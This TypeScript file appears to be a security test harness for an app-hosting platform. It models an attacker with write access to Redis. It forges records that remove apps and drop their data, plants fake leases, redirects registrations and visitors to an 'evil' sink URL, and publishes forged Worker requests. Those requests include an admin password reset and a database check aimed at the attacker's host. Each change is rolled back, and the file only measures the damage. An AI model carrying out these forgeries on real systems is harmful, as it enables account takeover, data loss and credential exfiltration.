import { setTimeout as sleep } from 'node:timers/promises';
import { HOST } from '../../scripts/fleet';
import type { Attack } from './attacks';
import type { Stage } from './stage';

/** What is tried by somebody who can write to Redis. `Stage.damage` says afterwards whether anything has changed. */

/** Whatever is written is read within this time, in ms: everybody is told of it. */
const READ_WITHIN = 2_500;

/** Writes, tells everybody, waits, and puts back what it has replaced. */
async function forge(
  stage: Stage,
  keys: string[],
  write: () => Promise<unknown>,
  names = ['target'],
): Promise<string[]> {
  const { redis } = stage;
  const before = await Promise.all(keys.map(async (key) => [key, await redis.dumpBuffer(key)] as const));
  try {
    await write();
    const wake = JSON.stringify({ names });
    for (const channel of ['supervisors', 'definitions', 'environment:env_a'])
      await redis.publish(stage.key('wake', channel), wake);
    await sleep(READ_WITHIN);
    return await stage.damage();
  } finally {
    for (const [key, dump] of before) {
      await redis.del(key);
      if (dump) await redis.restore(key, 0, dump);
    }
  }
}

const NEWER = Date.now() + 10 ** 9;
const LEASE = { instance: 'evil:1:1', epoch: 10 ** 6, beat: 1, interval: 5_000, state: 'serving', registered: 1 };

export const forgeries: Attack[] = [
  {
    finding: 'S5',
    title: 'records that drop, stop and move apps: unsigned, changed, and of another app',
    async run(stage) {
      const { redis } = stage;
      const key = stage.key('records', 'env_a');
      const stored = Object.entries(await redis.hgetall(key));
      const [[uid, real], [, other]] = ['target', 'bystander'].map(
        (name) => stored.find(([, text]) => text.includes(`"name":"${name}"`)) ?? ['target', ''],
      );
      const plain = {
        name: 'target',
        uid: 'x',
        generation: NEWER,
        desired: 'removed',
        data: 'drop',
        provision: 'none',
      };
      const boot = { generation: NEWER, how: 'restart' };
      const forged = [
        JSON.stringify({ ...plain, boot }),
        real.replace('"desired":"running"', '"desired":"removed"').replace('"data":"keep"', '"data":"drop"'),
        `${real.slice(0, -2)}x${real.slice(-1)}`,
        other,
        '',
      ];
      const found: string[] = [];
      for (const value of forged)
        found.push(
          ...(await forge(
            stage,
            [key],
            () => redis.multi().hset(key, uid, value).hset(key, ':count', String(NEWER)).exec(),
            ['target', uid],
          )),
        );
      return found;
    },
  },
  {
    finding: 'S5',
    title: 'leases and statuses of somebody who does not host the apps',
    async run(stage) {
      const { redis } = stage;
      const [lease, statuses, holder] = ['lease', 'statuses', 'holder'].map((name) => stage.key(name, 'env_a'));
      const status = { name: 'target', uid: 'x', status: 'error', since: NEWER, generation: NEWER };
      return [
        ...(await forge(stage, [lease, holder], () =>
          redis.multi().set(lease, JSON.stringify(LEASE)).set(holder, JSON.stringify(LEASE)).exec(),
        )),
        ...(await forge(stage, [statuses], () => redis.hset(statuses, 'target', JSON.stringify(status)))),
      ];
    },
  },
  {
    finding: 'S5',
    title: 'another address for visitors: registrations, the app index and the Supervisor’s row',
    async run(stage) {
      const { redis, sinkPort } = stage;
      const evil = `http://${HOST}:${sinkPort}`;
      const registration = stage.key('registration', 'env_a');
      const index = stage.key('apps');
      const entry = { name: 'target', uid: 'x', title: 'Evil', cname: 'evil.example.test', environments: ['env_b'] };
      const found = [
        ...(await forge(stage, [registration], () =>
          redis.set(registration, JSON.stringify({ name: 'env_a', url: evil, proxyUrl: evil, plugins: [] })),
        )),
        ...(await forge(stage, [index], () =>
          redis.hset(index, {
            x: JSON.stringify(entry),
            ':supervisor': JSON.stringify({ instance: 'evil', publicUrl: evil }),
          }),
        )),
      ];
      const { headers, text } = await stage.ask('/api/__app/target/app:getInfo', {
        headers: { Host: 'evil.example.test' },
      });
      if (text.includes('Evil') || headers.location?.includes(evil)) found.push('visitors are sent elsewhere');
      return [...found, ...stage.arrived.splice(0).map((what) => `the attacker’s server got ${what.slice(0, 60)}`)];
    },
  },
  {
    finding: 'S5',
    title: 'requests to a Worker: a foreign database, a log, an event and a new password',
    async run(stage) {
      const { redis, sinkPort } = stage;
      const database = { dbConnType: 'new_connection', dialect: 'postgres', host: HOST, port: sinkPort, username: 'x' };
      const hash = 'ab'.repeat(32);
      const payloads = {
        checkDatabase: { name: 'x', database: { ...database, password: 'x', database: 'x' } },
        logs: { name: 'target', lines: 100 },
        appEvent: { name: 'target', event: 'x', payload: {} },
        resetAdmin: { name: 'main', uid: 'env_a', hash },
      };
      const answers: string[] = [];
      const listener = redis.duplicate();
      await listener.subscribe(stage.key('replies', 'evil'));
      listener.on('message', (_, text) => answers.push(text));
      for (const [method, payload] of Object.entries(payloads)) {
        const request = { id: 'x', replyTo: 'evil', method, payload, at: Date.now() };
        for (const text of [JSON.stringify(request), `x ${JSON.stringify(request)}`, btoa(JSON.stringify(request))])
          await redis.publish(stage.key('requests', 'env_a'), text);
      }
      await sleep(READ_WITHIN);
      listener.disconnect();
      return [
        ...answers.map((text) => `it answers ${text.slice(0, 60)}`),
        ...stage.arrived.splice(0),
        ...(await stage.damage()),
      ];
    },
  },
];
